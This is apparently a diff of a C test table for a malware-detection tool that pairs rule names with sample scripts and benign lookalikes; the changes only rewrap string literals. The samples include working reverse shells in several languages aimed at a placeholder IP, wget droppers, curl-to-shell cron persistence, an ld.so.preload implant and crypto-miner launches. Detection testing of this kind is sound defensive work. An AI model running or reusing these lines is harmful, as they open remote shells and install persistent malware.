@@ -35,9 +35,9 @@ static const struct row rows[] = {
 	{NULL, "\177ELF a library that knows randomx and cryptonight by name"},
 	{"Miner_Started_By_Script",
 		"#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.example.test:3333 -u x &\n"},
-	{"Miner_Started_By_Script",
-		"import subprocess\nsubprocess.Popen(['./a', '--url', 'pool.supportxmr.com:443', '-u', "
-		"'" WALLET "'])\n"},
+	{"Miner_Started_By_Script", "import subprocess\nsubprocess.Popen(['./a', '--url', "
+				    "'pool.supportxmr.com:443', '-u', "
+				    "'" WALLET "'])\n"},
 	{NULL, "#!/bin/sh\n# blocks stratum+tcp://pool.example.test\niptables -A OUTPUT -p tcp "
 	       "--dport 3333 -j DROP\n"},
 	{NULL, "#!/bin/sh\n# kill miners\npkill -f xmrig\npkill -f minerd\nchmod 644 /etc/hosts\n"},
@@ -59,9 +59,11 @@ static const struct row rows[] = {
 	{"Reverse_Shell_Shell", "telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445\n"},
 	{"Reverse_Shell_Shell", "socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty,stderr,setsid\n"},
 	{"Reverse_Shell_Shell", "xterm -display 192.0.2.1:1\n"},
-	{NULL, "#!/bin/bash\n# is the port open?\nif exec 3<>/dev/tcp/localhost/8080; then echo up; "
+	{NULL, "#!/bin/bash\n# is the port open?\nif exec 3<>/dev/tcp/localhost/8080; then "
+	       "echo up; "
 	       "fi\nexec 3>&-\n"},
-	{NULL, "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.example.test/5432' && echo ready\n"},
+	{NULL, "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.example.test/5432' && echo "
+	       "ready\n"},
 	{NULL, "mkfifo /tmp/log; cat /tmp/log | tee out.txt &\nnc -z localhost 80\n"},
 	{NULL, "socat TCP-LISTEN:80,fork TCP:backend.example.test:8080\n"},
 
@@ -71,7 +73,8 @@ static const struct row rows[] = {
 		"os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"},
 	{"Reverse_Shell_Python",
 		"import os,pty,socket\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\n"
-		"[os.dup2(s.fileno(),f)for f in(0,1,2)]\nfor fd in (0, 1, 2):\n os.dup2(s.fileno(), "
+		"[os.dup2(s.fileno(),f)for f in(0,1,2)]\nfor fd in (0, 1, "
+		"2):\n os.dup2(s.fileno(), "
 		"fd)\npty.spawn('/bin/sh')\n"},
 	{"Reverse_Shell_Python",
 		"s = socket.socket()\ns.connect((host, port))\nwhile True:\n cmd = s.recv(1024)."
@@ -82,13 +85,16 @@ static const struct row rows[] = {
 	       "os.dup2(devnull, 2)\n"},
 
 	{"Reverse_Shell_Perl",
-		"use Socket;$i='192.0.2.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'))"
-		";if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');"
+		"use Socket;$i='192.0.2.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('"
+		"tcp'))"
+		";if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>"
+		"&S');"
 		"exec('/bin/sh -i');};"},
 	{"Reverse_Shell_Perl",
 		"use IO::Socket::INET;$c=new IO::Socket::INET(PeerAddr=>'192.0.2.1:4444');"
 		"STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"},
-	{NULL, "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'www.example.test', "
+	{NULL, "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "
+	       "'www.example.test', "
 	       "PeerPort => 80);\nprint $s \"GET /\\r\\n\";\n"},
 
 	{"Reverse_Shell_Other",
@@ -97,7 +103,8 @@ static const struct row rows[] = {
 				"exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"},
 	{"Reverse_Shell_Other",
 		"var net = require(\"net\"), sh = require('child_process').spawn(\"/bin/sh\", []);"
-		"var c = new net.Socket();c.connect(4444, '192.0.2.1', function(){c.pipe(sh.stdin);})"},
+		"var c = new net.Socket();c.connect(4444, '192.0.2.1', "
+		"function(){c.pipe(sh.stdin);})"},
 	{"Reverse_Shell_Other",
 		"local s=require('socket');local t=assert(s.tcp());t:connect('192.0.2.1',4444);"
 		"while true do local r,x=t:receive();local f=io.popen(r, 'r') end"},
@@ -128,7 +135,8 @@ static const struct row rows[] = {
 	{NULL, "#!/bin/sh\necho 'Content-Type: text/plain'; echo\necho \"query: $QUERY_STRING\"\n"},
 
 	{"Dropper_Many_Machines",
-		"cd /tmp || cd /var/run\nwget http://192.0.2.1/b.mips; chmod 777 b.mips; ./b.mips; rm -rf "
+		"cd /tmp || cd /var/run\nwget http://192.0.2.1/b.mips; chmod 777 b.mips; "
+		"./b.mips; rm -rf "
 		"b.mips\nwget http://192.0.2.1/b.arm7; chmod 777 b.arm7; ./b.arm7; rm -rf b.arm7\n"
 		"wget http://192.0.2.1/b.sh4; chmod 777 b.sh4; ./b.sh4; rm -rf b.sh4\n"},
 	{NULL, "#!/bin/sh\nset -e\ncase $(uname -m) in x86_64) a=x86_64;; armv7l) a=armv7;; esac\n"
@@ -150,14 +158,16 @@ static const struct row rows[] = {
 		"b64decode(__[::-1]));exec((_)(b'==w'))\n"},
 	{"Dropper_Encoded_Code",
 		"exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAA'))\n"},
-	{NULL, "data = zlib.decompress(base64.b64decode(blob))\nexec(open('settings.py').read())\n"},
+	{NULL, "data = zlib.decompress(base64.b64decode(blob))\nexec(open('settings.py').read()"
+	       ")\n"},
 	{"Dropper_Persistence",
 		"(crontab -l; echo '* * * * * curl -s http://192.0.2.1/x | sh') | crontab -\n"
 		"echo '*/5 * * * * root wget -qO- http://192.0.2.1/x | bash' > /etc/cron.d/x\n"},
-	{"Dropper_Persistence",
-		"curl -o /usr/lib/x.so http://192.0.2.1/x.so\necho /usr/lib/x.so > /etc/ld.so.preload\n"},
+	{"Dropper_Persistence", "curl -o /usr/lib/x.so http://192.0.2.1/x.so\necho /usr/lib/x.so > "
+				"/etc/ld.so.preload\n"},
 	{NULL, "echo '0 3 * * * /usr/local/bin/backup' | crontab -\n"},
-	{NULL, "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA "
+	{NULL, "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+	       "AAAA "
 	       "admin\" >> ~/.ssh/authorized_keys\n"},
 };
 
